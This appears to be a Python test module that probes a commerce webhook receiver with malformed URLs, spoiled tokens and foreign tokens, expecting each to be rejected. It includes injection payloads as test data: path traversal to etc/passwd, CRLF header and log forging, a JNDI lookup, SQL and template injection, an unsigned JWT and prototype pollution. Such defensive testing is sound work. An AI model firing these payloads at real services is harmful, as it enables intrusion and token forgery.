"""What strangers write into URLs: other spellings of names and tokens, other paths."""

from collections.abc import Callable, Iterator

from commerce_hooks.keyring import CallbackTarget
from commerce_hooks.platform import Platform
from support.platforms import platforms
from support.probes.probe import (
    ACCEPTED,
    CANARY,
    NOT_FOUND,
    STORE,
    UNAUTHORIZED,
    Genuine,
    Make,
    Probe,
    every_byte_encoded,
    in_path,
)

_NO_NAMES = {
    "encoded slash": "acme%2Fx",
    "encoded backslash": "acme%5Cx",
    "dots": "..",
    "a dot": ".",
    "encoded dots": "%2e%2e",
    "encoded way up": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "null": "acme%00",
    "null before": "%00acme",
    "line break": "acme%0A",
    "forged log line": f"acme%0D%0A%7B%22level%22:%22INFO%22,%22note%22:%22{CANARY}%22%7D",
    "forged header": "acme%0D%0ASet-Cookie:%20a=1",
    "ANSI escape": f"acme%1B%5B31m{CANARY}",
    "tab": "%09acme",
    "space": "acme%20",
    "double encoding": "%2561cme",
    "double encoded dots": "%252e%252e",
    "overlong slash": "acme%C0%AFx",
    "overlong letter": "%C1%A1cme",
    "overlong dot": "%E0%80%AEacme",
    "encoded surrogate": "acme%ED%A0%80",
    "broken UTF-8": "acme%FF",
    "no hexadecimal": "acme%zz",
    "full-width letter": in_path("\uff41cme"),
    "Cyrillic letter": in_path("\u0430cme"),
    "zero-width joiner": in_path("acme\u200d"),
    "right-to-left override": in_path("ac\u202eem"),
    "soft hyphen": in_path("ac\u00adme"),
    "combining accent": in_path("acme\u0301"),
    "long s": in_path("\u017fhop"),
    "line separator": in_path("acme\u2028"),
    "emoji": in_path("acme\U0001f4a5"),
    "capital": "%41cme",
    "matrix parameter": "acme;v=1",
    "plus": "acme+b",
    "full stop": "acme.",
    "tilde": "~acme",
    "wildcard": "*",
    "question mark": "acme%3Fa=1",
    "hash": "acme%23a",
    "prototype": "__proto__",
    "lookup": "%24%7Bjndi:ldap:%2F%2Fhost.example%2Fa%7D",
    "template": "%7B%7B7*7%7D%7D",
    "script": "%3Cscript%3E",
    "SQL": "acme'%20OR%20'1'='1",
    "5,000 characters": "a" * 5000,
}
# One more decoding or unescaping somewhere would make these genuine.
_SPOILT_TOKENS: dict[str, Callable[[str], str]] = {
    "dots encoded twice": lambda t: t.replace(".", "%252E"),
    "all encoded twice": lambda t: in_path(every_byte_encoded(t)),
    "full-width dots": lambda t: t.replace(".", in_path("\uff0e")),
    "ideographic dots": lambda t: t.replace(".", in_path("\u3002")),
    "Kelvin sign": lambda t: in_path("\u212a") + t[1:],
    "mathematical letter": lambda t: in_path("\U0001d424") + t[1:],
    "byte order mark": lambda t: "%EF%BB%BF" + t,
    "zero-width space": lambda t: t[:9] + in_path("\u200b") + t[9:],
    "soft hyphen": lambda t: t[:9] + in_path("\u00ad") + t[9:],
    "right-to-left override": lambda t: in_path("\u202e") + t[::-1],
    "overlong dot": lambda t: t.replace(".", "%C0%AE", 1),
    "broken UTF-8": lambda t: t + "%FF",
    "null and more": lambda t: t + "%00.json",
    "null inside": lambda t: t[:9] + "%00" + t[9:],
    "line break and more": lambda t: t + "%0A" + t,
    "carriage return": lambda t: t + "%0D",
    "vertical tab": lambda t: t + "%0B",
    "line separator": lambda t: t + in_path("\u2028"),
    "forged header": lambda t: t + "%0D%0ASet-Cookie:%20a=1",
    "forged log line": lambda t: (
        t + f"%0A%7B%22outcome%22:%22accepted%22,%22x%22:%22{CANARY}%22%7D"
    ),
    "question mark": lambda t: t + "%3Fa=1",
    "hash": lambda t: t + "%23a",
    "matrix parameter": lambda t: t + ";a=1",
    "file extension": lambda t: t + ".json",
    "backslash": lambda t: t + "%5C",
    "quotes": lambda t: f"%22{t}%22",
    "plus": lambda t: "+" + t,
    "percent": lambda t: t + "%25",
    "no MAC": lambda t: t.rpartition(".")[0] + ".",
    "no generation": lambda t: t.replace(".1.", "..", 1),
    "no key": lambda t: t.partition(".")[2],
    "dots alone": lambda _: "..",
    "MAC of A": lambda t: t.rpartition(".")[0] + "." + "A" * 43,
    "hexadecimal MAC": lambda t: t.rpartition(".")[0] + "." + "0" * 64,
    "two MACs": lambda t: f"{t}.{t.rpartition('.')[2]}",
    "largest generation": lambda t: t.replace(".1.", ".999999999.", 1),
    "generation of ten digits": lambda t: t.replace(".1.", ".1000000001.", 1),
    "negative generation": lambda t: t.replace(".1.", ".-1.", 1),
    "fractional generation": lambda t: t.replace(".1.", ".1.0.", 1),
    "key __proto__": lambda t: "__proto__" + t[2:],
    "unsigned JWT": lambda _: "eyJhbGciOiJub25lIn0.eyJzdG9yZSI6ImFjbWUifQ.",
    "SQL": lambda _: "'%20OR%20'1'='1",
    "format string": lambda _: "%25s%25n%25x",
    "lookup": lambda _: f"%24%7Bjndi:ldap:{CANARY}.example%7D",
    "5,000 characters": lambda t: t + "A" * 5000,
}
_SAME_TOKENS: dict[str, Callable[[str], str]] = {
    "dots encoded": lambda t: t.replace(".", "%2E"),
    "all encoded": every_byte_encoded,
    "small hexadecimal": lambda t: every_byte_encoded(t).lower(),
}
_NEAR_STORES = ("acm", "acme-", "acme1", "acme-acme", "a", "constructor")
_PATHS: dict[str, Callable[[Genuine], str]] = {
    "one part more": lambda g: g.path() + "/x",
    "slash at the end": lambda g: g.path() + "/",
    "encoded dots after it": lambda g: g.path() + "/%2e%2e",
    "two slashes": lambda g: g.path(store="/" + STORE),
    "empty store": lambda g: g.path(store=""),
    "no token": lambda g: g.path(token="").rstrip("/"),
    "platform in capitals": lambda g: g.path(platform=g.platform.name.upper()),
    "platform with a parameter": lambda g: g.path(platform=g.platform.name + ";a=1"),
    "stage before it": lambda g: "/dev" + g.path(),
    "a way down and up": lambda g: "/x/.." + g.path(),
    "a dot before it": lambda g: "/." + g.path(),
    "backslashes": lambda g: "/" + g.path()[1:].replace("/", "%5C"),
    "turned round": lambda g: "/" + "/".join(g.path()[1:].split("/")[::-1]),
    "another word for callbacks": lambda g: "/webhooks" + g.path(),
    "prototype": lambda g: g.path(platform="__proto__"),
}


def url_probes(platform: Platform) -> Iterator[Probe]:
    for name, store in _NO_NAMES.items():
        yield Probe("store in the URL", name, _with_store(store), NOT_FOUND)
        if platform.topic_in_url:
            yield Probe("topic in the URL", name, _with_topic(store), NOT_FOUND)
    for name, spoil in _SPOILT_TOKENS.items():
        yield Probe("token spelt otherwise", name, _with_token(spoil), UNAUTHORIZED)
    yield Probe(
        "token spelt otherwise",
        "encoded way up",
        _with_token(lambda t: t + "%2F..%2F" + t),
        UNAUTHORIZED,
        # It takes an encoded slash for a slash, so there is no such route.
        front_door=NOT_FOUND,
    )
    for name, spell in _SAME_TOKENS.items():
        yield Probe("genuine URL spelt otherwise", name, _with_token(spell), ACCEPTED)
    yield Probe("genuine URL spelt otherwise", "store encoded", _with_store("%61cme"), ACCEPTED)
    for name, path in _PATHS.items():
        yield Probe("other path", name, _with_path(path), NOT_FOUND)
    yield Probe(
        "other path",
        "encoded slashes",
        _with_path(lambda g: "/" + in_path(g.path()[1:])),
        NOT_FOUND,
        front_door=ACCEPTED,  # the same
    )
    yield from _foreign_tokens(platform)


def _foreign_tokens(platform: Platform) -> Iterator[Probe]:
    """Tokens that are genuine elsewhere."""
    first, *others = platform.topics
    elsewhere = sorted({*platforms(), "cenit", "another"} - {platform.name})
    targets = [
        *(CallbackTarget(name, STORE, topic) for name in elsewhere for topic in (None, first)),
        *(CallbackTarget(platform.name, STORE, topic) for topic in (*others, platform.name)),
    ]
    for target in targets:
        name = f"{target.platform} {target.topic or ''}".rstrip()
        yield Probe("token of something else", name, _with_token_of(target), UNAUTHORIZED)
    for store in _NEAR_STORES:
        make = _with_token_of(CallbackTarget(platform.name, store, _in_url(platform)))
        yield Probe("token of something else", f"store {store}", make, UNAUTHORIZED)


def _in_url(platform: Platform) -> str | None:
    return next(iter(platform.topics)) if platform.topic_in_url else None


def _with_store(store: str) -> Make:
    return lambda g: g.post(path=g.path(store=store))


def _with_topic(topic: str) -> Make:
    return lambda g: g.post(path=g.path(topic=topic))


def _with_token(spell: Callable[[str], str]) -> Make:
    return lambda g: g.post(path=g.path(token=spell(g.token)))


def _with_token_of(target: CallbackTarget) -> Make:
    return lambda g: g.post(path=g.path(token=g.mint(target)))


def _with_path(path: Callable[[Genuine], str]) -> Make:
    return lambda g: g.post(path=path(g))
